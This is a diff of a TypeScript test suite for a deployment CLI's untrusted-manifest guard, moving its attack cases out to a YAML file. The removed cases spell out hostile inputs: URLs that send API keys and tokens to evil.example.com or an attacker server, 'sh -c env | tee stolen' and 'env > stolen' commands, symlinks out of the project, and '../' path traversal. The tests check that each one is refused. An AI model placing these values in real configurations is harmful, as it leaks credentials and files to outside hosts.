@@ -2,9 +2,10 @@ import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
 import { dirname, join } from "node:path";
 import { embeddedApiKey } from "../../src/emulator/emulator";
 import { type Canary, canary, sightings } from "../support/canaries";
-import { approve, eachScenario } from "../support/cli";
+import { approve, eachScenario, failing } from "../support/cli";
 import { closing } from "../support/closing";
 import { type StateService, serveState } from "../support/http-state-server";
+import { casesIn } from "../support/rows";
 import { shareOf } from "../support/soak";
 import { newFolder } from "../support/temp-folder";
 
@@ -25,170 +26,21 @@ const outsideFile = canary("file outside");
 const canaries = [...Object.values(held), outsideFile];
 
 interface Attack {
-  readonly files: Readonly<Record<string, string>>;
+  readonly name: string;
+  /** A text, or the content of a JSON file. */
+  readonly files: Readonly<Record<string, unknown>>;
   /** Links by their name: to a file outside of the project. */
   readonly links?: readonly string[];
   readonly flags?: readonly string[];
   /** What stops it, as it is shown. */
-  readonly stopped: string;
+  readonly stopped?: string;
 }
 
-const project = (service: string, more = "") =>
-  `projects:\n  shop:\n    services:\n      api:\n        kind: web\n${service}${more}`;
-const repository = (text: string) => project(`        configuration: { repository: "${text}" }\n`);
-const variable = (value: string, more = "") => project(`        variables: { A: ${value} }\n`, more);
-const stage = (settings: string) =>
-  `stages: { production: { ${settings} } }\n${repository("https://git.example.com/a")}`;
-const inStage = ["--stage", "production"];
-const stack = (body: unknown) => ({
-  "cdk.tf.json": JSON.stringify({
-    terraform: { required_providers: { rnv: { source: "rnv/rnv" } } },
-    provider: { rnv: [{}] },
-    ...(body as object),
-  }),
-});
-
 /** `SERVER` is a server of the attacker, `OUTSIDE` the folder outside. */
-const attacks: Readonly<Record<string, Attack>> = {
-  "our key in a repository's address": {
-    files: { "rnv.yaml": repository("https://evil.example.com/${env.RNV_API_KEY}") },
-    stopped: "rnv.yaml:6:38",
-  },
-  "a value behind a harmless name": {
-    files: { "rnv.yaml": repository("https://evil.example.com/${env.DEPLOY_TARGET:-x}") },
-    stopped: "error[guard.untrusted]: service.shop.api: DEPLOY_TARGET is not read",
-  },
-  "a secret as the value of a variable": {
-    files: { "rnv.yaml": variable("{ fromEnv: SHOP_TOKEN }") },
-    stopped: "rnv.yaml:6:36",
-  },
-  "what signs a webhook": {
-    files: { "rnv.yaml": variable("{ fromEnv: RNV_WEBHOOK_SECRET }") },
-    stopped: "RNV_WEBHOOK_SECRET is a credential of rnv",
-  },
-  "a file outside": {
-    files: { "rnv.yaml": variable("{ fromFile: OUTSIDE/secret.txt }") },
-    stopped: "is not a file of the project folder, and --untrusted reads no other",
-  },
-  "a file outside by a link": {
-    files: { "rnv.yaml": variable("{ fromFile: link.txt }") },
-    links: ["link.txt"],
-    stopped: "is not a file of the project folder, and --untrusted reads no other",
-  },
-  "a command": {
-    files: { "rnv.yaml": variable("{ fromCommand: [sh, -c, 'env | tee stolen'], env: [SHOP_TOKEN] }") },
-    stopped: 'the command "sh" is not run: --untrusted forbids it',
-  },
-  "a secret in a group that services share": {
-    files: {
-      "rnv.yaml": `variableGroups: { all: { A: { fromEnv: SHOP_TOKEN } } }\n${project("        variablesFrom: [{ group: all }]\n")}`,
-    },
-    stopped: "rnv.yaml:1:40",
-  },
-  "a dotenv file outside by a link": {
-    files: { "rnv.yaml": project("        variablesFrom: [{ dotenv: .env }]\n") },
-    links: [".env"],
-    stopped: 'the dotenv file ".env" is not a file of the project folder',
-  },
-  "an overlay outside by a link": {
-    files: { "rnv.yaml": stage("overlay: overlay.yaml") },
-    links: ["overlay.yaml"],
-    flags: inStage,
-    stopped: "overlay of stage production is not a file of the project folder",
-  },
-  "a manifest that is a link out": {
-    files: {},
-    links: ["rnv.yaml"],
-    stopped: "rnv.yaml is a link out of the project folder",
-  },
-  "a state at the attacker's server": {
-    files: { "rnv.yaml": stage('state: "SERVER/${stage.name}"') },
-    flags: inStage,
-    stopped: "error[guard.untrusted]: stage production names its state",
-  },
-  "a state that is a file outside by a link": {
-    files: { "rnv.yaml": stage("state: state.json") },
-    links: ["state.json"],
-    flags: inStage,
-    stopped: "error[guard.untrusted]: stage production names its state",
-  },
-  "the default state as a link": {
-    files: { "rnv.yaml": repository("https://git.example.com/a") },
-    links: [".rnv/state.json"],
-    stopped: "state.unreadable",
-  },
-  "a secret in the address of a state": {
-    files: { "rnv.yaml": stage('state: "SERVER/${env.SHOP_TOKEN}"') },
-    flags: inStage,
-    stopped: "error[guard.untrusted]: SHOP_TOKEN is not read",
-  },
-  "a secret by a reference": {
-    files: {
-      "rnv.yaml": project(
-        "        variables: { A: { fromEnv: SHOP_TOKEN } }\n",
-        '      web:\n        kind: web\n        configuration: { repository: "https://evil.example.com/${variable.shop.api.A.value}" }\n',
-      ),
-    },
-    stopped: "error[manifest.unsupported]: service.shop.web: a secret can be referred to from a secret only",
-  },
-  "a program of constructs": {
-    files: { "cdktf.json": JSON.stringify({ app: "env > stolen", language: "typescript" }) },
-    stopped: "of cdktf.json is not run: --untrusted forbids it",
-  },
-  "a variable of a stack in a repository's address": {
-    files: stack({
-      variable: { target: { type: "string" } },
-      resource: {
-        rnv_service: {
-          api: {
-            name: "api",
-            kind: "web",
-            configuration: { repository: "https://evil.example.com/${var.target}" },
-          },
-        },
-      },
-    }),
-    flags: ["-f", "cdk.tf.json"],
-    stopped: "TF_VAR_target is not read for a manifest that is not trusted",
-  },
-  "policies that are a link out": {
-    files: { "rnv.yaml": repository("https://git.example.com/a") },
-    links: ["rnv.policy.yaml"],
-    stopped: "rnv.policy.yaml is a link out of the project folder",
-  },
-  "an app of stacks whose stack lies outside": {
-    files: {
-      "cdktf.out/manifest.json": JSON.stringify({
-        version: "0.21.0",
-        stacks: {
-          a: {
-            name: "a",
-            synthesizedStackPath: `${"../".repeat(20)}OUTSIDE/cdk.tf.json`,
-            constructPath: "a",
-            annotations: [],
-            dependencies: [],
-            workingDirectory: "stacks/a",
-          },
-        },
-      }),
-    },
-    flags: ["-f", "cdktf.out"],
-    stopped: "is outside its folder",
-  },
-  "a stack whose provider is at the attacker's server": {
-    files: stack({
-      provider: { rnv: [{ base_url: "SERVER/api/v1" }] },
-      resource: { rnv_project: { shop: { name: "shop" } } },
-    }),
-    flags: ["-f", "cdk.tf.json"],
-    stopped: "the setting is not what RNV_BASE_URL says",
-  },
-  "accepted drift that is a link out": {
-    files: { "rnv.yaml": repository("https://git.example.com/a") },
-    links: ["rnv.drift.yaml"],
-    stopped: "",
-  },
-};
+const attacks = casesIn<Attack>(join(__dirname, "attacks.yaml"));
+const inStage = ["--stage", "production"];
+const repository = (text: string) =>
+  `services: { api: { kind: web, configuration: { repository: "${text}" } } }\n`;
 
 describe("a manifest of a stranger", () => {
   const secrets = Object.fromEntries(
@@ -236,8 +88,8 @@ describe("a manifest of a stranger", () => {
   });
 
   const lay = ({ files, links = [] }: Attack) => {
-    for (const [name, text] of Object.entries(files)) {
-      mkdirSync(dirname(join(scenario.folder, name)), { recursive: true });
+    for (const [name, content] of Object.entries(files)) {
+      const text = typeof content === "string" ? content : JSON.stringify(content);
       scenario.write(name, text.replaceAll("OUTSIDE", outside).replaceAll("SERVER", url));
     }
     for (const name of links) {
@@ -264,49 +116,46 @@ describe("a manifest of a stranger", () => {
     ["destroy", ...approve],
   ];
 
-  it.each(Object.entries(attacks))(
-    "%s: not one byte leaves, and it is said what was refused",
-    async (_, attack) => {
-      lay(attack);
-      const inputs = new Set(
-        [...Object.keys(attack.files), ...(attack.links ?? [])].map((name) => join(scenario.folder, name)),
-      );
-      for (const [name, job] of shareOf(Object.entries(jobs()), 3)) {
-        scenario.forget();
-        const env = { ...secrets, RNV_STATE_HTTP_USERNAME: "ci", ...job };
-        const { code, stdout, stderr } = await scenario.runWith({ env }, "plan", ...(attack.flags ?? []));
-        if (attack.stopped !== "") {
-          expect([name, `${stdout}${stderr}`]).toEqual([name, expect.stringContaining(attack.stopped)]);
-          expect(code).toBeGreaterThan(0);
-        }
+  it.each(attacks)("$name: not one byte leaves, and it is said what was refused", async (attack) => {
+    lay(attack);
+    const inputs = new Set(
+      [...Object.keys(attack.files), ...(attack.links ?? [])].map((name) => join(scenario.folder, name)),
+    );
+    for (const [name, job] of shareOf(Object.entries(jobs()), 3)) {
+      scenario.forget();
+      const env = { ...secrets, RNV_STATE_HTTP_USERNAME: "ci", ...job };
+      const { code, stdout, stderr } = await scenario.runWith({ env }, "plan", ...(attack.flags ?? []));
+      if (attack.stopped !== undefined) {
+        expect([name, `${stdout}${stderr}`]).toEqual([name, expect.stringContaining(attack.stopped)]);
+        expect(code).toBeGreaterThan(0);
       }
-      const env = { ...secrets, ...jobs().GitHub };
-      const shown: string[] = [];
-      for (const words of shareOf(verbs, 5)) {
-        const ended = await scenario.runWith({ env }, ...words, ...(attack.flags ?? []));
-        shown.push(...sightings(canaries, words.join(" "), `${ended.stdout}\n${ended.stderr}`));
-      }
-      for (const { path } of scenario.files())
-        if (!inputs.has(path)) shown.push(...sightings(canaries, path, readFileSync(path, "latin1")));
-      for (const request of scenario.sent)
-        shown.push(...sightings(canaries, request.path, JSON.stringify(request.body ?? "")));
-      expect(shown).toEqual([]);
-      expect(received).toEqual([]);
-      expect(scenario.files().map(({ path }) => path)).not.toContain(join(scenario.folder, "stolen"));
-    },
-  );
+    }
+    const env = { ...secrets, ...jobs().GitHub };
+    const shown: string[] = [];
+    for (const words of shareOf(verbs, 5)) {
+      const ended = await scenario.runWith({ env }, ...words, ...(attack.flags ?? []));
+      shown.push(...sightings(canaries, words.join(" "), `${ended.stdout}\n${ended.stderr}`));
+    }
+    for (const { path } of scenario.files())
+      if (!inputs.has(path)) shown.push(...sightings(canaries, path, readFileSync(path, "latin1")));
+    for (const request of scenario.sent)
+      shown.push(...sightings(canaries, request.path, JSON.stringify(request.body ?? "")));
+    expect(shown).toEqual([]);
+    expect(received).toEqual([]);
+    expect(scenario.files().map(({ path }) => path)).not.toContain(join(scenario.folder, "stolen"));
+  });
 
   it("reads a name of the environment and the address of a state where a job allows them", async () => {
-    lay({ files: { "rnv.yaml": stage(`state: "${url}/state/\${stage.name}"`) }, stopped: "" });
+    const stages = `stages: { production: { state: "${url}/state/\${stage.name}" } }\n`;
+    scenario.write("rnv.yaml", stages + repository("https://git.example.com/a"));
     const env = { ...secrets, ...jobs().GitHub, RNV_ALLOW_STATE: `${url}/other/*, ${url}/state/*` };
     const { stderr } = await scenario.runWith({ env }, "plan", ...inStage);
     expect(stderr).not.toContain("guard.untrusted");
     expect(received.join()).toContain("GET /state/production");
     for (const RNV_ALLOW_STATE of [`${url}/stat*`, `${url}*`, "*", `${url}/state`])
-      expect(await scenario.runWith({ env: { ...env, RNV_ALLOW_STATE } }, "plan", ...inStage)).toMatchObject({
-        code: 4,
-        stderr: expect.stringContaining("list it in RNV_ALLOW_STATE"),
-      });
+      expect(await scenario.runWith({ env: { ...env, RNV_ALLOW_STATE } }, "plan", ...inStage)).toMatchObject(
+        failing(4, "list it in RNV_ALLOW_STATE"),
+      );
     scenario.write("rnv.yaml", repository("https://git.example.com/${env.DEPLOY_TARGET}"));
     const named = { ...env, DEPLOY_TARGET: "eu", RNV_ALLOW_ENV: "DEPLOY_*" };
     expect(await scenario.runWith({ env: named }, "plan")).toMatchObject({ code: 0 });
